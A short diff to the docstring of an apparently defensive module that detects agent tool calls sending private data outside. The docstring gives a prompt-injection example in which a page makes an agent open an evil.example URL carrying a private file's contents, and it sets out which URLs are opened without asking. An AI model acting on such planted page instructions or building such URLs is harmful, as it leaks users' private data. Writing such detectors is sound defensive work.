@@ -1,4 +1,4 @@
-"""Detect tool calls that would send private data to strangers.
+"""Detect tool calls that would send private data outside.
 
 A page can make an agent open `https://evil.example/?d=<contents of a private file>`. URLs that the agent was given or
 has read are opened without asking, and so are URLs that it composes from public text. A URL that repeats text from
